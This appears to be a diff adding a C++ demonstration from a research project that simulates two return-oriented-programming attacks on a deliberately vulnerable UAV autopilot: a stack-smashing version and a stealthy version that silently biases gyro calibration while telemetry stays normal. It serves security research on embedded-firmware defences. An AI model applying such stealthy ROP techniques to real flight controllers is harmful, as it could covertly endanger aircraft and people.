@@ -1,0 +1,106 @@
+// The attacker's story (paper §IV): traditional ROP vs. stealthy ROP
+// against an unprotected UAV, observed from the operator's seat.
+//
+// Scenario: the UAV flies a stabilized course in gusty air; the operator
+// watches telemetry. A compromised ground station delivers one PARAM_SET
+// packet per attack.
+//
+//  * ROP V1 rewrites the gyro calibration but smashes the stack — the
+//    control loop dies, telemetry stops, and the airframe departs
+//    controlled flight within seconds. Detectable and self-defeating.
+//  * ROP V2 performs the same write and then repairs the stack — the
+//    autopilot keeps flying and telemetry never hiccups, but every gyro
+//    report (and the control loop's idea of "level") is now silently
+//    biased by the attacker.
+#include <cstdio>
+
+#include "attack/attacks.hpp"
+#include "firmware/generator.hpp"
+#include "firmware/profile.hpp"
+#include "sim/board.hpp"
+#include "sim/flight.hpp"
+#include "sim/ground.hpp"
+
+namespace {
+
+using namespace mavr;
+
+constexpr double kDt = 0.01;                  // 10 ms physics step
+constexpr std::uint64_t kDtCycles = 160'000;  // at 16 MHz
+
+struct Cockpit {
+  sim::Board board;
+  sim::FlightModel flight{board};
+  sim::GroundStation gcs{board};
+
+  void fly(double seconds) {
+    for (int i = 0; i < seconds / kDt; ++i) {
+      flight.step(kDt);
+      board.run_cycles(kDtCycles);
+      gcs.poll();
+    }
+  }
+
+  void report(const char* phase) {
+    std::printf("  %-28s roll=%+7.1f deg  telemetry xgyro=%+6d  "
+                "packets=%5llu  link=%s  board=%s\n",
+                phase, flight.state().roll_deg,
+                gcs.last_imu() ? gcs.last_imu()->xgyro : 0,
+                static_cast<unsigned long long>(gcs.packets_received()),
+                gcs.garbage_bytes() == 0 ? "clean" : "GARBAGE",
+                board.cpu().state() == avr::CpuState::Running
+                    ? (flight.state().departed ? "flying (DEPARTED!)"
+                                               : "flying")
+                    : "CRASHED");
+  }
+};
+
+}  // namespace
+
+int main() {
+  // The attacker's offline work: stock binary -> gadgets + frame layout.
+  const firmware::Firmware fw = firmware::generate(
+      firmware::testapp(/*vulnerable=*/true),
+      toolchain::ToolchainOptions::mavr());
+  const attack::AttackPlan plan = attack::analyze(fw.image);
+  std::printf("attacker analysis: %u gadgets (%u stk_move, %u write_mem), "
+              "vulnerable frame at 0x%04X, target g_gyro_cal at 0x%04X\n\n",
+              plan.census.total(), plan.census.stk_move_gadgets,
+              plan.census.write_mem_gadgets, plan.frame.buffer_addr,
+              plan.gyro_cal_addr);
+  // Skew the roll-gyro calibration by +1024 counts = +64 deg/s phantom
+  // roll — the autopilot will "correct" a roll that isn't happening.
+  const attack::Write3 skew{plan.gyro_cal_addr, {0x00, 0x04, 0x00}};
+
+  std::printf("=== ROP V1: traditional attack (paper §IV-C) ===\n");
+  {
+    Cockpit uav;
+    uav.board.flash_image(fw.image.bytes);
+    uav.fly(2.0);
+    uav.report("cruise");
+    uav.gcs.send_raw_param_set(plan.builder().v1_payload(skew));
+    uav.fly(1.0);
+    uav.report("attack delivered");
+    uav.fly(4.0);
+    uav.report("4 s later");
+    std::printf("  -> the smashed stack killed the control loop; the "
+                "operator sees the link die.\n\n");
+  }
+
+  std::printf("=== ROP V2: stealthy attack with clean return (§IV-D) ===\n");
+  {
+    Cockpit uav;
+    uav.board.flash_image(fw.image.bytes);
+    uav.fly(2.0);
+    uav.report("cruise");
+    uav.gcs.send_raw_param_set(plan.builder().v2_payload({skew}));
+    uav.fly(1.0);
+    uav.report("attack delivered");
+    uav.fly(4.0);
+    uav.report("4 s later");
+    std::printf("  -> telemetry never stopped, no garbage, yet the gyro "
+                "stream is biased and the\n     autopilot is flying a "
+                "phantom correction. The operator has no idea.\n");
+  }
+  return 0;
+}
